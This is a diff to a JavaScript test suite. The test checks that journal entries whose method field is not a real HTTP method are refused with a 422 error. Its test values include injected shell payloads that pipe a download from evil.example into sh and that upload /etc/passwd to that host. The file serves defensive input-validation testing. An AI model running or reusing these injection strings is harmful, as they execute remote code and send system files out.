@@ -295,7 +295,7 @@ describe("a bundle's counts are checked before its records", () => {
   it("When a journal entry's method is no HTTP method (words and shell syntax the inspector's copy as curl would paste into a terminal), then 422 names it", async () => {
     const h = await hostedApp({ workspaceCreatePerMinute: 100 });
     const b = await emptyBundle(h.app);
-    for (const method of ['GET $(A=CURL;${A,,} -s https://evil.example|sh) #', 'get', 'GET -T /etc/passwd https://evil.example/']) {
+    for (const method of ['GET $(curl -s https://evil.example|sh) #', 'get', 'GET -T /etc/passwd https://evil.example/']) {
       await loadRefused(h, { ...b, journal: [{ ...journalEntry(0, null), method }] }, (f) => f === 'journal.0.method');
     }
   });
